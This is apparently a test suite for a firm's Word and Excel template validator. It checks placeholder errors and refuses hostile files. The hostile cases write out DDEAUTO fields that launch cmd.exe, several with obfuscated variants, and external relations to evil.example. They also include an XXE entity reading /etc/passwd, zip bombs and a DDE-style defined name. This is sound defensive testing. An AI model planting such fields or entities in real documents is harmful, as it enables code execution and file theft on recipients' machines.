import { readXlsx, writeXlsx } from 'hucre/xlsx';
import PizZip from 'pizzip';
import { placeholdersOf } from '@/backend/documents/fillWorkbook';
import { bookFields } from '@/backend/documents/firmTemplates/bookFields';
import { checkBook } from '@/backend/documents/firmTemplates/checkBook';
import { checkTemplate } from '@/backend/documents/firmTemplates/checkTemplate';
import { fieldsOf, toldFields } from '@/backend/documents/firmTemplates/fields';
import { type DocumentTemplate, samplesOf } from '@/backend/documents/samples';
import { shippedTemplate } from '@/backend/documents/templates';
import { templatePapers } from '@/contract/paperTemplate';
import { wordsOf } from '@/locales/all';
import { type Change, inPart, templateFile } from './templateFiles';

const told = (paper: DocumentTemplate) => toldFields(fieldsOf(samplesOf(paper)));

describe.each(templatePapers.filter((paper) => paper !== 'projectBook'))('%s', (paper) => {
  test('the shipped template is taken as the firm’s own', async () => {
    expect(checkTemplate(paper, await shippedTemplate(paper))).toEqual([]);
  });

  test('every field has words in both languages, and every text an example', () => {
    for (const { path, kind, example, within } of told(paper)) {
      for (const part of path)
        for (const { paperTemplate } of Object.values(wordsOf)) expect(paperTemplate.parts).toHaveProperty(part);
      // A special agent is written by hand.
      const blank =
        ['page', 'in', 'out'].includes(path.join('.')) || (within.at(-1) === 'agents' && path[0] !== 'title');
      if (kind === 'text' && !blank) expect(example).not.toBe('');
    }
  });
});

type Row = readonly [
  paper: DocumentTemplate,
  lines: readonly string[],
  expected: { readonly code: string; readonly tag?: string; readonly other?: string; readonly place?: string },
];

const wrong: readonly Row[] = [
  ['reminder', ['差し込みのない文章'], { code: 'noField' }],
  ['clientMoney', ['前の段落', '作成日 {day'], { code: 'unclosed', tag: 'day', place: '作成日 {day' }],
  ['clientMoney', ['作成日 day}'], { code: 'unopened', tag: 'day', place: '作成日 day}' }],
  ['clientMoney', ['{{day}}'], { code: 'doubled', tag: '{{day}', place: '{{day}}' }],
  ['clientMoney', ['{#entries}', '明細'], { code: 'unclosedList', tag: 'entries', place: '{#entries}' }],
  ['clientMoney', ['明細', '{/entries}'], { code: 'unopenedList', tag: 'entries', place: '{/entries}' }],
  ['clientMoney', ['{#entries}{/banks}'], { code: 'otherEnd', tag: 'entries', other: 'banks' }],
  [
    'clientMoney',
    ['日付', '作成日　{da|te}です'],
    { code: 'unknownNear', tag: '{date}', other: 'day', place: '作成日　{date}です' },
  ],
  [
    'clientMoney',
    ['{addressee.adress}'],
    { code: 'unknownNear', tag: '{addressee.adress}', other: 'addressee.address' },
  ],
  ['clientMoney', ['{まったく別の名前}'], { code: 'unknown', tag: '{まったく別の名前}' }],
  ['clientMoney', ['{}'], { code: 'unknown', tag: '{}' }],
  ['clientMoney', ['{constructor.name}'], { code: 'unknown', tag: '{constructor.name}' }],
  ['clientMoney', ['{day.toString()}'], { code: 'unknown', tag: '{day.toString()}' }],
  ['clientMoney', ['{balance}'], { code: 'outsideList', tag: '{balance}', other: 'entries' }],
  [
    'clientMoney',
    ['{#entries}{day}{/entries}{in}'],
    { code: 'outsideList', tag: '{in}', other: 'entries', place: '…ries}{day}{/entries}{in}' },
  ],
  ['clientMoney', ['{entries}'], { code: 'isList', tag: '{entries}' }],
  ['clientMoney', ['{is.settled}'], { code: 'isList', tag: '{is.settled}' }],
  ['clientMoney', ['{@subject}'], { code: 'noDrawing', tag: '{@subject}' }],
  ['clientMoney', ['{#entries}{#entries}{text}{/entries}{/entries}'], { code: 'listInItself', tag: '{#entries}' }],
  [
    'division',
    ['{#takers}{#items}{#lines}{#heirs}{name}{/heirs}{/lines}{/items}{/takers}'],
    { code: 'listsTooDeep', tag: '{#heirs}' },
  ],
  ['heirList', ['{#sheets}', '図 {@drawing}', '{/sheets}'], { code: 'drawingAlone', tag: 'drawing' }],
  ['heirList', ['{#sheets}', '{drawing}', '{/sheets}'], { code: 'isDrawing', tag: '{drawing}' }],
  ['project', ['{late.day}'], { code: 'notAlways', tag: '{late.day}', other: '相続税申告' }],
  ['reminder', ['{before.day}'], { code: 'notAlways', tag: '{before.day}', other: 'お支払いのご確認' }],
];

test.each(wrong)('%s with %j is refused, with the place', async (paper, lines, expected) => {
  const problems = checkTemplate(paper, await templateFile(paper, lines));
  expect(problems).toContainEqual(expect.objectContaining(expected));
});

const right: readonly (readonly [DocumentTemplate, readonly string[]])[] = [
  ['clientMoney', ['{#is.settled}精算済み{/is.settled}{^is.settled}残り {closing}{/is.settled}']],
  ['clientMoney', ['{#entries}{day} {in} {payee.name}{/entries}']],
  ['invoice', ['{#first}{first.number} {day}{/first}']],
  ['project', ['{#late}期限 {late.day}{/late}{#clients_list}{name}{#minor}(未成年){/minor}{/clients_list}']],
];

test.each(right)('%s with %j is taken', async (paper, lines) => {
  expect(checkTemplate(paper, await templateFile(paper, lines))).toEqual([]);
});

test('a fault in a footer is told with its place', async () => {
  const file = await templateFile('clientMoney', ['本文'], (zip) => {
    zip.file(
      'word/footer1.xml',
      (zip.file('word/footer1.xml')?.asText() ?? '').replace(/<\/w:p>/, '<w:r><w:t>担当 {cntact}</w:t></w:r></w:p>'),
    );
  });
  expect(checkTemplate('clientMoney', file)).toEqual([
    expect.objectContaining({ tag: '{cntact}', place: expect.stringContaining('担当 {cntact}') }),
  ]);
});

const relation = (type: string, target: string, mode = ' TargetMode="External"'): Change =>
  inPart('word/_rels/document.xml.rels', (xml) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
    ),
  );
const inBody = (xml: string): Change =>
  inPart('word/document.xml', (text) => text.replace('<w:sectPr/>', `${xml}<w:sectPr/>`));
const field = (...codes: string[]): Change =>
  inBody(
    `<w:p>${codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('')}</w:p>`,
  );
const part =
  (name: string, content: string | Uint8Array = 'x'): Change =>
  (zip) =>
    void zip.file(name, content);

const hostile: Readonly<Record<string, readonly [change: Change, code: string]>> = {
  'a macro': [part('word/vbaProject.bin'), 'macros'],
  'a document whose type allows macros': [
    inPart('[Content_Types].xml', (xml) =>
      xml.replace('openxmlformats-officedocument.wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'),
    ),
    'macros',
  ],
  'an embedded object': [part('word/embeddings/oleObject1.bin'), 'embedded'],
  'an embedded workbook by its relation': [relation('package', 'x/y.xlsx', ''), 'embedded'],
  'an object by its relation, in single quotes': [
    inPart('word/_rels/document.xml.rels', (xml) =>
      xml.replace('</Relationships>', "<Relationship Id='a' Type='http://x/oleObject' Target='a'/></Relationships>"),
    ),
    'embedded',
  ],
  'a control': [part('word/activeX/activeX1.xml', '<a/>'), 'embedded'],
  'a web page that Word takes in': [inBody('<w:altChunk r:id="x"/>'), 'embedded'],
  'an attached template': [relation('attachedTemplate', 'https://evil.example/a.dotm'), 'external'],
  'a picture from elsewhere': [relation('image', 'https://evil.example/a.png'), 'external'],
  'a picture from a share': [relation('image', 'file://evil/a.png'), 'external'],
  'a link to a file': [relation('hyperlink', 'file:///c:/windows/system32/calc.exe'), 'external'],
  'a field that runs a program': [field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'fields'],
  'the same, cut into pieces': [field('DD', 'EAUTO cmd'), 'fields'],
  'a field that fetches': [field('INCLUDEPICTURE "https://evil.example/a.png"'), 'fields'],
  'a simple field that fetches': [inBody('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;x&quot;"/></w:p>'), 'fields'],
  'the same in CDATA': [field('<![CDATA[DDEAUTO cmd]]>'), 'entities'],
  'the same, cut by a comment': [field('DD<!-- -->EAUTO cmd'), 'entities'],
  'the same, cut by an instruction': [field('DD<?a b?>EAUTO cmd'), 'entities'],
  'the same in numbers of letters': [field('&#68;&#x44;EAUTO cmd'), 'fields'],
  'the same in a namespace of another name': [
    inBody('<w:p><a-b:instrText xmlns:a-b="x">DDEAUTO cmd</a-b:instrText></w:p>'),
    'fields',
  ],
  'a simple field with spaces in its attribute': [inBody('<w:p><w:fldSimple w:instr = "DDE x"/></w:p>'), 'fields'],
  'a picture from elsewhere, its mode in numbers of letters': [
    relation('image', 'https://evil.example/a.png', ' TargetMode="&#69;xternal"'),
    'external',
  ],
  'a picture from elsewhere, behind a sign of tags': [relation('image', 'https://evil.example/?a>b.png'), 'external'],
  'a picture from elsewhere that calls itself a link': [
    relation('image', 'https://evil.example/a.png', ` TargetMode="External" Note="Type='/hyperlink'"`),
    'external',
  ],
  'an attached template in numbers of letters': [
    relation('attachedTemplat&#101;', 'https://evil.example/a.dotm'),
    'external',
  ],
  'macros in numbers of letters': [
    inPart('[Content_Types].xml', (xml) =>
      xml.replace('<Override', '<Default Extension="a" ContentType="macro&#69;nabled"/><Override'),
    ),
    'macros',
  ],
  'an entity': [
    inPart('word/document.xml', (xml) =>
      xml.replace(/\?>/, '?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    ),
    'entities',
  ],
  'another encoding': [part('word/styles.xml', Buffer.from('<a/>', 'utf16le')), 'entities'],
  'no text': [(zip) => void zip.remove('word/document.xml'), 'notWord'],
  'a text without end': [(zip) => void zip.file('word/document.xml', 'a'.repeat(3 * 1024 * 1024)), 'tooLong'],
  'a bomb': [part('word/media/image1.png', Buffer.alloc(21 * 1024 * 1024)), 'tooLarge'],
  'too many parts': [
    (zip) => {
      for (let no = 0; no < 501; no += 1) zip.file(`word/media/${no}.png`, '');
    },
    'tooLarge',
  ],
  'broken XML': [inPart('word/document.xml', (xml) => xml.replace('</w:body>', '')), 'broken'],
};

test.each(Object.entries(hostile))('%s is refused', async (_, [change, code]) => {
  const problems = checkTemplate('clientMoney', await templateFile('clientMoney', ['本文 {day}'], change));
  expect(problems.map((problem) => problem.code)).toEqual([code]);
});

test.each<[string, string, string]>([
  ['tags', 'word/document.xml', '<a'],
  ['comments', 'word/document.xml', '<!--'],
  ['instructions', 'word/document.xml', '<?x'],
  ['fields', 'word/styles.xml', '<w:instrText '],
  ['simple fields', 'word/styles.xml', '<w:fldSimple w:instr="'],
  ['names of attributes', 'word/styles.xml', 'b-'],
  ['relations', 'word/_rels/document.xml.rels', '<Relationship '],
])('%s without end are refused or passed by at once', async (_, name, text) => {
  const times = Math.floor((name.endsWith('document.xml') ? 1.9 : 8) * 1024 * 1024) / text.length;
  const file = await templateFile('clientMoney', ['{day}'], part(name, `<w:fldSimple ${text.repeat(times)}`));
  const began = performance.now();
  checkTemplate('clientMoney', file);
  expect(performance.now() - began).toBeLessThan(20_000);
});

test.each([
  ['nothing', Buffer.alloc(0)],
  ['text', Buffer.from('これはWordではありません')],
  ['an old Word file', Buffer.from('d0cf11e0a1b11ae1000000', 'hex')],
  ['a zip of something else', Buffer.from(new PizZip().file('a.txt', 'a').generate({ type: 'uint8array' }))],
])('%s is no Word document', (_, file) => {
  expect(checkTemplate('invoice', file)).toEqual([{ code: 'notWord' }]);
});

test('two parts of one name, of which programs read different ones, are refused', async () => {
  const file = await templateFile('clientMoney', ['本文'], part('word/documenX.xml', '<a/>'));
  expect(
    checkTemplate(
      'clientMoney',
      Buffer.from(file.toString('latin1').replaceAll('documenX.xml', 'document.xml'), 'latin1'),
    ),
  ).toEqual([{ code: 'broken' }]);
});

test('links that somebody has to follow, page numbers and pictures are taken', async () => {
  const file = await templateFile('clientMoney', ['{day}'], (zip) => {
    relation('hyperlink', 'https://firm.example/')(zip);
    field('PAGE \\* MERGEFORMAT')(zip);
    field('HYPERLINK "https://firm.example/link"')(zip);
    part('word/media/logo.png')(zip);
  });
  expect(checkTemplate('clientMoney', file)).toEqual([]);
});

test('what is wrong in many places is told once a place, and not without end', async () => {
  const lines = Array.from({ length: 60 }, (_, no) => `${no} {wrong${no}}`);
  expect(checkTemplate('clientMoney', await templateFile('clientMoney', lines))).toHaveLength(20);
  expect(checkTemplate('clientMoney', await templateFile('clientMoney', ['{x1}', '{x1}']))).toHaveLength(1);
});

describe('the workbook of a project', () => {
  const shipped = () => shippedTemplate('projectBook');
  /** A workbook of one sheet. */
  const bookOf = async (rows: string[][], change: Change = () => undefined): Promise<Buffer> => {
    const zip = new PizZip(await writeXlsx({ sheets: [{ name: '概要', rows }] }));
    change(zip);
    return Buffer.from(zip.generate({ type: 'uint8array', compression: 'DEFLATE' }));
  };

  test('the shipped one is taken as the firm’s own', async () => {
    expect(await checkBook(await shipped())).toEqual([]);
  });

  test('every placeholder of the shipped one is a field that is told, with words in both languages and an example', async () => {
    const fields = bookFields();
    const { sheets } = await readXlsx(await shipped());
    const names = new Set(sheets.flatMap(({ rows }) => rows.flat().flatMap(placeholdersOf)));
    const known = new Map(fields.map((field) => [field.name, field]));
    expect([...names].filter((name) => !known.has(name.replace('?', '')))).toEqual([]);
    const wordless = new Set(
      fields.flatMap(({ path }) =>
        path.filter((part) => Object.values(wordsOf).some(({ paperTemplate }) => !(part in paperTemplate.parts))),
      ),
    );
    expect([...wordless]).toEqual([]);
    const blank = fields.filter(({ kind, name, example }) => kind === 'text' && names.has(name) && example === '');
    expect(blank.map(({ name }) => name)).toEqual(['heirs.renounced', 'heirs.note']);
  });

  test.each<[string[][], object]>([
    [
      [['a'], ['b', '{{decedent.nam}}']],
      { code: 'unknownNear', tag: '{{decedent.nam}}', other: 'decedent.name', place: '概要!B2' },
    ],
    [[['差し込みのない'], ['表']], { code: 'noField' }],
    [[['{{まったく別}}']], { code: 'badField', place: '概要!A1' }],
    [[['{{zzzzzzzzzzzz}}']], { code: 'unknown', tag: '{{zzzzzzzzzzzz}}' }],
    [[['{{decedent.name}']], { code: 'badField', tag: '{{decedent.name}' }],
    [[['{{heirs}}']], { code: 'isGroup', tag: '{{heirs}}' }],
    [[['{{decedent}}']], { code: 'isGroup' }],
    [
      [['{{heirs.name}}', '{{debts.item}}']],
      { code: 'twoLists', tag: '{{debts.item}}', other: 'heirs', place: '概要!B1' },
    ],
    [[['{{?heirs.name}}']], { code: 'badCondition' }],
    [[['図 {{chart}}']], { code: 'drawingCell', tag: '{{chart}}' }],
  ])('%j is refused, with the cell', async (rows, expected) => {
    expect(await checkBook(await bookOf(rows))).toEqual([expect.objectContaining(expected)]);
  });

  test('lists, lists in them, conditions and drawings are taken', async () => {
    const rows = [
      ['{{today}}', '{{?matter.death}}'],
      ['{{kinds.items.no}}', '{{kinds.items.name}}', '{{kinds.name}}', '{{office.name}}'],
      ['{{kinds.name}} 小計', '{{kinds.subtotal}}'],
      ['{{chart}}'],
    ];
    expect(await checkBook(await bookOf(rows))).toEqual([]);
  });

  const sheet = 'xl/worksheets/sheet1.xml';
  const rels = '<Relationship Id="x" Type="http://x/hyperlink" Target="file:///c:/calc.exe" TargetMode="External"/>';
  test.each<[string, Change, string]>([
    ['a macro', part('xl/vbaProject.bin'), 'macros'],
    ['an embedded object', part('xl/embeddings/oleObject1.bin'), 'embedded'],
    ['another workbook', part('xl/externalLinks/externalLink1.xml', '<a/>'), 'external'],
    ['a connection', part('xl/connections.xml', '<a/>'), 'external'],
    [
      'a name for another program',
      inPart('xl/workbook.xml', (xml) =>
        xml.replace(
          '</workbook>',
          '<definedNames><definedName name="a">cmd|/c calc!A1</definedName></definedNames></workbook>',
        ),
      ),
      'external',
    ],
    [
      'a link to a program',
      part('xl/worksheets/_rels/sheet1.xml.rels', `<Relationships>${rels}</Relationships>`),
      'external',
    ],
    ['a chart, which would be lost', part('xl/charts/chart1.xml', '<a/>'), 'lost'],
    [
      'a formula',
      inPart(sheet, (xml) => xml.replace(/<c r="A1"[\s\S]*?<\/c>/, '<c r="A1"><f>1+1</f><v>2</v></c>')),
      'formula',
    ],
    ['a cell far outside', inPart(sheet, (xml) => xml.replace('r="A1"', 'r="A9999"')), 'tooLong'],
    ['a column far outside', inPart(sheet, (xml) => xml.replace('r="A1"', 'r="XFD1"')), 'tooLong'],
    ['an entity', inPart(sheet, (xml) => xml.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>')), 'entities'],
    ['a bomb', part('xl/media/image1.png', Buffer.alloc(21 * 1024 * 1024)), 'tooLarge'],
    ['no sheets', (zip) => void zip.remove('xl/workbook.xml'), 'notBook'],
  ])('%s is refused', async (_, change, code) => {
    expect((await checkBook(await bookOf([['本文']], change))).map((problem) => problem.code)).toEqual([code]);
  });

  test.each([
    ['text', Buffer.from('これはExcelではありません')],
    ['a Word document', null],
  ])('%s is no workbook', async (_, file) => {
    expect(await checkBook(file ?? (await shippedTemplate('invoice')))).toEqual([{ code: 'notBook' }]);
  });
});
